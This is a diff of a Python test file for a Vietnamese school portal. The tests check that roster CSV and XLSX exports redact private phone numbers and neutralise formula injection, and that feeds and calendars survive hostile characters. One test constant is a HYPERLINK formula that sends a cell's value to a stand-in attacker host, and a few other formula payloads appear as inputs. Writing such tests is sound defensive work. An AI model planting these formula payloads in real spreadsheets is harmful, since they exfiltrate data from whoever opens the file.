@@ -5,19 +5,22 @@ Also: the same data gives the same bytes, and no private value is ever written."
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 import posixpath
 import re
 import xml.etree.ElementTree as ET
 import zipfile
+from pathlib import Path
 
+import icalendar
 import openpyxl
 import pytest
 
-from conftest import REPO
+from conftest import REPO, Dataset
 from portal import calendar as ical
-from portal import exports, feed, vocab
+from portal import exports, feed, sanitize, vocab
 from portal.dates import SchoolYear
 from portal.load import load_or_raise
 from portal.model import Body, Membership, Portal
@@ -371,12 +374,101 @@ def test_no_private_value_in_any_export(portal: Portal, files: dict[str, bytes])
     assert REDACTED in files["nam-hoc/2024-2025/du-lieu.json"].decode("utf-8")
 
 
-def test_a_private_value_in_a_roster_is_hidden(portal: Portal) -> None:
-    body = portal.bodies[(Y2024, "dbp-to-cot-can-thcs-cbql")]
-    phone = sorted(portal.private_values())[0]
-    first = body.members[2]
-    leaky = Body(**{**body.__dict__, "members": (first.__class__(**{**first.__dict__, "note": f"ĐT {phone}"}),)})
-    assert phone not in exports.roster_csv(portal, leaky).decode("utf-8-sig")
-    assert REDACTED in exports.roster_csv(portal, leaky).decode("utf-8-sig")
-    for text in texts("x.xlsx", exports.roster_xlsx(portal, leaky)):
-        assert phone not in text
+def test_a_private_value_in_a_roster_is_hidden_in_csv_and_xlsx(dataset: Dataset) -> None:
+    """Loaded from YAML like a clerk's data: the list's cells write the private phone in
+    other forms; the model is redacted at load, so the exports never see it."""
+    members = dataset.year["bodies"][1]["members"]
+    members[1].update({"as_written": "Giáo viên - THCS Hai (ĐT 0912-944-718)", "note": "+84 912 944 718"})
+    portal, _ = load_or_raise(dataset.write(), dataset.root)
+    group = portal.bodies[(Y2024, "a-to-toan")]
+    csv_text = exports.roster_csv(portal, group).decode("utf-8-sig")
+    xlsx_text = "".join(texts("x.xlsx", exports.roster_xlsx(portal, group)))
+    for text in (csv_text, xlsx_text):
+        assert re.sub(r"\D", "", text).count("912944718") == 0
+        assert f"Giáo viên - THCS Hai (ĐT {REDACTED})" in text and REDACTED in text
+
+
+# Injection: formulas in CSV and XLSX, characters that break XML and iCalendar
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'
+
+
+def test_csv_cells_never_start_a_formula_and_real_values_stay_as_they_are() -> None:
+    for value in (FORMULA, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-x"):
+        assert sanitize.csv_cell(value) == "'" + value
+    for value in ("-", "--", "—", "-5", "+3,5", "-12.75", "1/QĐ-UBND", "Nhóm trưởng", "", " =1"):
+        assert sanitize.csv_cell(value) == value
+
+
+def test_a_formula_in_a_list_is_text_in_the_csv_and_in_the_xlsx(dataset: Dataset) -> None:
+    members = dataset.year["bodies"][1]["members"]
+    members[0].update({"as_written": FORMULA, "note": "-"})
+    members[1].update({"note": "@SUM(A1:A9)", "position": "-x", "subject": "-5"})
+    portal, _ = load_or_raise(dataset.write(), dataset.root)
+    group = portal.bodies[(Y2024, "a-to-toan")]
+    raw = exports.roster_csv(portal, group).decode("utf-8-sig")
+    assert all(line.startswith('"') for line in raw.split("\r\n") if line), "every cell quoted (OWASP)"
+    rows = list(csv.reader(io.StringIO(raw)))
+    assert rows[1][2] == "'" + FORMULA and rows[1][4] == "-"
+    assert rows[2][4] == "'@SUM(A1:A9)" and rows[2][2] == "'-x - THCS Hai" and rows[2][3] == "-5"
+    data = exports.roster_xlsx(portal, group)
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    assert sheet is not None
+    cell = next(c for row in sheet.iter_rows() for c in row if c.value == FORMULA)
+    assert cell.data_type == "s"  # the value as it is, a string, never a formula
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
+    assert not any("hyperlink" in xml.lower() for xml in sheets)
+
+
+# Characters XML 1.0 forbids (and RFC 5545 with them): the checker refuses them at load;
+# the writers drop them anyway, so a feed or a calendar is never unreadable.
+FORBIDDEN = "\ufffe\uffff\x00\x01\x08\x0b\x0c\x1b\x7f\ud800"
+
+
+def hostile_titles(portal: Portal, text: str) -> Portal:
+    """The model with `text` in every document's title and every activity's texts, built
+    directly (as if the checker had let it through)."""
+    documents = {}
+    for key, doc in portal.documents.items():
+        activities = tuple(dataclasses.replace(a, title=a.title + text, details=text) for a in doc.activities)
+        documents[key] = dataclasses.replace(doc, title=doc.title + text, number=f"1{text}", activities=activities)
+    return dataclasses.replace(portal, documents=documents)
+
+
+def assert_rfc5545(data: bytes) -> icalendar.Calendar:
+    """A calendar a strict reader accepts: CRLF lines of at most 75 octets, no control
+    character but the tab, every line `NAME[;PARAM]:VALUE`, parsed by `icalendar` with no
+    error in any component."""
+    assert data.endswith(b"\r\n") and b"\n" not in data.replace(b"\r\n", b"")
+    for line in data.split(b"\r\n")[:-1]:
+        assert len(line) <= 75, line
+        assert not re.search(rb"[\x00-\x08\x0a-\x1f\x7f]", line), line
+        text = line.decode("utf-8")
+        assert text.startswith(" ") or re.match(r"[A-Z][A-Z0-9-]*[;:]", text), line
+    calendar = icalendar.Calendar.from_ical(data)
+    assert [(c.name, c.errors) for c in calendar.walk() if c.errors] == []
+    return calendar
+
+
+def test_the_feed_and_calendars_stay_valid_whatever_the_text(portal: Portal) -> None:
+    hostile = hostile_titles(portal, "<x>&amp;]]>\"'" + FORBIDDEN + ";,\\\n\r")
+    root = ET.fromstring(feed.feed_bytes(hostile, URLS, SITE))
+    titles = [e.findtext(f"{ATOM}title") or "" for e in root.findall(f"{ATOM}entry")]
+    assert titles and all("<x>&amp;]]>\"'" in t and not re.search("[\ufffe\uffff\x00-\x08]", t) for t in titles)
+    calendars = ical.calendar_files(hostile, URLS, SITE)
+    assert calendars
+    for data in calendars.values():
+        events = assert_rfc5545(data).walk("VEVENT")
+        assert events and all("<x>&amp;]]>" in str(e.get("SUMMARY")) for e in events)
+
+
+def test_every_feed_and_calendar_of_a_build_parses(repo_site: Path) -> None:
+    feeds = sorted(repo_site.rglob("atom.xml"))
+    calendars = sorted(repo_site.rglob("*.ics"))
+    assert feeds and len(calendars) >= 3
+    for path in feeds:
+        assert ET.parse(path).getroot().tag == f"{ATOM}feed"
+    for path in calendars:
+        assert assert_rfc5545(path.read_bytes()).walk("VEVENT"), path
